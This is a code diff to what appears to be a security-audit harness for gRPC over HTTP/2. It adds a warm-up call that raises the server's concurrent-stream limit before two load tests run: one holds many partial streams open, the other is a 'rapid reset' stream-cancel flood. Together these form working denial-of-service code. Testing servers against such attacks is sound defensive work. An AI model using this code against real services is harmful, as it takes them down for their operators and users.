@@ -50,6 +50,11 @@ export interface PartialCallsOptions {
   readonly holdMs: number;
   /** Called once all streams were opened and written, and then every second while held. */
   readonly onTick?: (elapsedMs: number) => void;
+  /**
+   * Make one whole call on each connection first, so that it may open GRPC_MAX_CONCURRENT_STREAMS
+   * rather than the 10 a connection starts with (issue 26).
+   */
+  readonly callFirst?: boolean;
 }
 
 export interface PartialCallsResult {
@@ -99,6 +104,7 @@ export async function partialCalls(o: PartialCallsOptions): Promise<PartialCalls
     session.once('close', () => {
       if (!letGo) result.connectionsClosedByServer++;
     });
+    if (o.callFirst) await firstCall(session, messagePrefix(0));
     const allowed = Math.min(o.streamsPerConnection, session.remoteSettings.maxConcurrentStreams ?? o.streamsPerConnection);
     result.maxConcurrentStreams ??= session.remoteSettings.maxConcurrentStreams;
     for (let s = 0; s < allowed && !session.destroyed; s++) {
@@ -150,6 +156,23 @@ export interface RapidResetResult {
 }
 
 /**
+ * One whole call, answered, then the SETTINGS that follow it: a connection starts with 10 calls
+ * at once and gets GRPC_MAX_CONCURRENT_STREAMS once a call has finished (issue 26), so an
+ * attacker makes one first. Bounded: 5 s.
+ */
+async function firstCall(session: http2.ClientHttp2Session, message: Buffer): Promise<void> {
+  const raised = new Promise<void>((resolve) => session.once('remoteSettings', () => resolve()));
+  const answered = new Promise<void>((resolve) => {
+    const stream = session.request(HEADERS);
+    stream.on('error', () => resolve());
+    stream.once('close', () => resolve());
+    stream.resume();
+    stream.end(message);
+  });
+  await Promise.race([answered.then(() => raised), sleep(5000)]);
+}
+
+/**
  * Finding 10: on one connection, sends a complete call (HEADERS, the message, END_STREAM) and
  * resets it with RST_STREAM(CANCEL) at once, `calls` times, without waiting for answers: the
  * "rapid reset" pattern. Stops when the server closes the connection.
@@ -167,6 +190,7 @@ export async function rapidReset(o: RapidResetOptions): Promise<RapidResetResult
   session.once('close', () => (result.closedByServer = true));
   const message = Buffer.concat([messagePrefix(o.request.length), o.request]);
   const headers = { ...HEADERS, ...o.headers };
+  await firstCall(session, message);
   const until = Date.now() + o.timeoutMs;
   for (let i = 0; i < o.calls && !result.closedByServer && !session.destroyed && Date.now() < until; i++) {
     let stream: http2.ClientHttp2Stream;
